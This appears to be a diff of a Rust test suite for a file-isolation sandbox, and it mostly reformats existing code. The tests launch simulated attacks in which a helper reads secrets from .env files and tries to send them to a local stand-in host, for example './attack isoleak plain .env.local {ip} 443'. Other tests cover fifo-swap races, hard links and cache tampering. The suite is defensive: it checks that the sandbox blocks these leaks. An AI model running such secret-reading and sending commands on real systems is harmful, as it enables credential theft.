@@ -2413,13 +2413,23 @@ fn leak_attempt(f: &Fixture, ip: &str, how: &str, path: &str, env: &[(&str, &str
     let o = run_with_deadline(cmd, Duration::from_secs(180));
     let got = server.received();
     let out = stdout(&o);
-    assert!(got.starts_with("PRE-TAINT-CHANNEL-OK"), "the channel did not work: {got:?}\n{}", show(&o));
     assert!(
-        out.contains("isoleak read: ") && !out.contains("isoleak read: -1") && !out.contains("isoleak read: 0"),
+        got.starts_with("PRE-TAINT-CHANNEL-OK"),
+        "the channel did not work: {got:?}\n{}",
+        show(&o)
+    );
+    assert!(
+        out.contains("isoleak read: ")
+            && !out.contains("isoleak read: -1")
+            && !out.contains("isoleak read: 0"),
         "the secret was not read (the attack did not run)\n{}",
         show(&o)
     );
-    assert!(!got.contains("LEAK:"), "the secret left the sandbox: {got:?}\n{}", show(&o));
+    assert!(
+        !got.contains("LEAK:"),
+        "the secret left the sandbox: {got:?}\n{}",
+        show(&o)
+    );
     assert!(
         out.contains("socket: errno=") || out.contains("isoleak connect: errno="),
         "not tainted\n{}",
@@ -2443,8 +2453,22 @@ impl Mounted {
         std::fs::create_dir_all(at).unwrap();
         let c = std::ffi::CString::new(at.as_os_str().as_bytes()).unwrap();
         // SAFETY: valid C strings.
-        let r = unsafe { libc::mount(c"none".as_ptr(), c.as_ptr(), c"tmpfs".as_ptr(), 0, std::ptr::null()) };
-        assert_eq!(r, 0, "mounting a tmpfs at {}: {}", at.display(), std::io::Error::last_os_error());
+        let r = unsafe {
+            libc::mount(
+                c"none".as_ptr(),
+                c.as_ptr(),
+                c"tmpfs".as_ptr(),
+                0,
+                std::ptr::null(),
+            )
+        };
+        assert_eq!(
+            r,
+            0,
+            "mounting a tmpfs at {}: {}",
+            at.display(),
+            std::io::Error::last_os_error()
+        );
         Mounted(c)
     }
 }
@@ -2480,7 +2504,11 @@ fn isolated_files_a_secret_below_a_non_utf8_directory_taints() {
     let o = f.run(&[], &["/bin/sh", "-c", script]);
     let got = server.received();
     assert!(got.starts_with("PRE-TAINT-CHANNEL-OK"), "{}", show(&o));
-    assert!(stdout(&o).contains("isoleak read: 20"), "the secret was not read\n{}", show(&o));
+    assert!(
+        stdout(&o).contains("isoleak read: 20"),
+        "the secret was not read\n{}",
+        show(&o)
+    );
     assert!(!got.contains("LEAK:"), "the secret left: {got:?}\n{}", show(&o));
     kernel_decided(&o);
 }
@@ -2492,7 +2520,9 @@ fn isolated_files_a_secret_below_a_non_utf8_directory_taints() {
 #[test]
 fn isolated_files_monitor_opens_of_a_hard_link_to_a_secret_taint() {
     if !kernel_opens() {
-        eprintln!("not run: a tripwire's other names are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root)");
+        eprintln!(
+            "not run: a tripwire's other names are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root)"
+        );
         return;
     }
     for (i, how) in ["creat", "openat2", "plain"].iter().enumerate() {
@@ -2515,7 +2545,8 @@ fn isolated_files_the_watcher_survives_a_fifo_exchanged_for_a_directory() {
         "mkdir d && mkfifo f && ./attack fifoswap d f 20000; ./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e go ]; do sleep 0.01; done; ./attack isoleak plain .env.local {ip} 443"
     );
     let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
-    cmd.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
     let child = cmd.spawn().unwrap();
     let pid = child.id();
     let start = std::time::Instant::now();
@@ -2524,11 +2555,17 @@ fn isolated_files_the_watcher_survives_a_fifo_exchanged_for_a_directory() {
         got.push_str(&server.received());
         std::thread::sleep(Duration::from_millis(10));
     }
-    assert!(got.starts_with("PRE-TAINT-CHANNEL-OK"), "the sandbox did not get to its send: {got:?}");
+    assert!(
+        got.starts_with("PRE-TAINT-CHANNEL-OK"),
+        "the sandbox did not get to its send: {got:?}"
+    );
     std::fs::write(f.ws.join(".env.local"), "USER-SECRET-B-created-outside-99\n").unwrap();
     if kernel_opens() {
         use std::os::unix::fs::MetadataExt;
-        let ino = format!("ino:{:x} ", std::fs::metadata(f.ws.join(".env.local")).unwrap().ino());
+        let ino = format!(
+            "ino:{:x} ",
+            std::fs::metadata(f.ws.join(".env.local")).unwrap().ino()
+        );
         let armed = || {
             std::fs::read_dir(format!("/proc/{pid}/fdinfo"))
                 .into_iter()
@@ -2543,15 +2580,29 @@ fn isolated_files_the_watcher_survives_a_fifo_exchanged_for_a_directory() {
         while !armed() && made.elapsed() < Duration::from_secs(30) {
             std::thread::sleep(Duration::from_millis(1));
         }
-        eprintln!("the new secret was marked {:?} after its creation", made.elapsed());
-        assert!(armed(), "the watcher did not mark the new secret within 30 s (wedged?)");
+        eprintln!(
+            "the new secret was marked {:?} after its creation",
+            made.elapsed()
+        );
+        assert!(
+            armed(),
+            "the watcher did not mark the new secret within 30 s (wedged?)"
+        );
     }
     std::fs::write(f.ws.join("go"), "").unwrap();
     let o = wait_with_deadline(child, Duration::from_secs(120));
     let out = stdout(&o);
     assert!(out.contains("fifoswap: 20000 of 20000 exchanges"), "{}", show(&o));
-    assert!(out.contains("isoleak read: 33"), "the read did not happen\n{}", show(&o));
-    assert!(!server.received().contains("LEAK:"), "the secret left\n{}", show(&o));
+    assert!(
+        out.contains("isoleak read: 33"),
+        "the read did not happen\n{}",
+        show(&o)
+    );
+    assert!(
+        !server.received().contains("LEAK:"),
+        "the secret left\n{}",
+        show(&o)
+    );
     assert!(out.contains("socket: errno="), "not tainted\n{}", show(&o));
     kernel_decided(&o);
 }
@@ -2567,7 +2618,13 @@ fn isolated_files_discovery_past_its_bound_falls_back_and_is_not_cached() {
         std::fs::write(f.ws.join(format!("junk{i}")), "").unwrap();
     }
     std::fs::write(f.ws.join("sub/.env"), "SECRET6-walkbound-42\n").unwrap();
-    let o = leak_attempt(&f, "127.77.16.30", "plain", "sub/.env", &[("CLAWLESS_DISCOVERY_BOUND", "50")]);
+    let o = leak_attempt(
+        &f,
+        "127.77.16.30",
+        "plain",
+        "sub/.env",
+        &[("CLAWLESS_DISCOVERY_BOUND", "50")],
+    );
     if kernel_opens() {
         assert!(
             stderr(&o).contains("opens are mediated: discovery reached its bound of 50 entries"),
@@ -2596,8 +2653,14 @@ fn isolated_files_a_restored_mtime_does_not_hide_a_moved_secret() {
         use std::os::unix::fs::MetadataExt;
         let m = std::fs::metadata(p).unwrap();
         [
-            libc::timespec { tv_sec: m.atime(), tv_nsec: m.atime_nsec() },
-            libc::timespec { tv_sec: m.mtime(), tv_nsec: m.mtime_nsec() },
+            libc::timespec {
+                tv_sec: m.atime(),
+                tv_nsec: m.atime_nsec(),
+            },
+            libc::timespec {
+                tv_sec: m.mtime(),
+                tv_nsec: m.mtime_nsec(),
+            },
         ]
     };
     let (ws_t, d_t) = (times(&f.ws), times(&f.ws.join("d")));
@@ -2606,7 +2669,10 @@ fn isolated_files_a_restored_mtime_does_not_hide_a_moved_secret() {
         use std::os::unix::ffi::OsStrExt;
         let c = std::ffi::CString::new(p.as_os_str().as_bytes()).unwrap();
         // SAFETY: valid C string and two timespecs.
-        assert_eq!(unsafe { libc::utimensat(libc::AT_FDCWD, c.as_ptr(), t.as_ptr(), 0) }, 0);
+        assert_eq!(
+            unsafe { libc::utimensat(libc::AT_FDCWD, c.as_ptr(), t.as_ptr(), 0) },
+            0
+        );
     }
     assert_eq!(times(&f.ws)[1].tv_nsec, ws_t[1].tv_nsec, "the mtime was restored");
     let o = leak_attempt(&f, "127.77.16.40", "plain", "d/.env", &[]);
@@ -2647,13 +2713,31 @@ fn isolated_files_the_policy_cache_stays_unwritable() {
     cmd.env_remove("XDG_CACHE_HOME");
     let o = run_with_deadline(cmd, Duration::from_secs(120));
     let out = stdout(&o);
-    assert!(out.contains("sibling plain write: 0"), "the probe did not run\n{}", show(&o));
+    assert!(
+        out.contains("sibling plain write: 0"),
+        "the probe did not run\n{}",
+        show(&o)
+    );
     let line = |l: &str| out.lines().any(|x| x == l);
     assert!(!line("creat: 0") && !line("plain write: 0"), "{}", show(&o));
     assert!(out.contains("sibling creat: 0"), "{}", show(&o));
-    assert!(!cache.join("clawless/evil").exists(), "the policy cache was written\n{}", show(&o));
-    assert_eq!(std::fs::read_to_string(cache.join("clawless/policy.bin")).unwrap(), "ORIGINAL", "{}", show(&o));
-    assert_eq!(std::fs::read_to_string(cache.join("pip/entry")).unwrap(), "GOODINAL", "{}", show(&o));
+    assert!(
+        !cache.join("clawless/evil").exists(),
+        "the policy cache was written\n{}",
+        show(&o)
+    );
+    assert_eq!(
+        std::fs::read_to_string(cache.join("clawless/policy.bin")).unwrap(),
+        "ORIGINAL",
+        "{}",
+        show(&o)
+    );
+    assert_eq!(
+        std::fs::read_to_string(cache.join("pip/entry")).unwrap(),
+        "GOODINAL",
+        "{}",
+        show(&o)
+    );
     kernel_decided(&o);
 }
 
@@ -2672,7 +2756,8 @@ fn isolated_files_outside_opens_of_a_tripwire_are_answered_while_the_agent_flood
     let script = "cat .env >/dev/null && touch flooding; \
         for i in 1 2 3; do (n=0; while [ $n -lt 400 ]; do cat .env .env .env .env >/dev/null; n=$((n+1)); done) & done; wait; echo flooded";
     let mut cmd = f.command(&[], &["/bin/sh", "-c", script]);
-    cmd.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
     let child = cmd.spawn().unwrap();
     let start = std::time::Instant::now();
     while !f.ws.join("flooding").exists() && start.elapsed() < Duration::from_secs(60) {
@@ -2690,5 +2775,8 @@ fn isolated_files_outside_opens_of_a_tripwire_are_answered_while_the_agent_flood
     assert!(stdout(&o).contains("flooded"), "{}", show(&o));
     kernel_decided(&o);
     eprintln!("worst outside open of the tripwire during the flood: {worst:?}");
-    assert!(worst < Duration::from_millis(500), "an outside open waited {worst:?}");
+    assert!(
+        worst < Duration::from_millis(500),
+        "an outside open waited {worst:?}"
+    );
 }
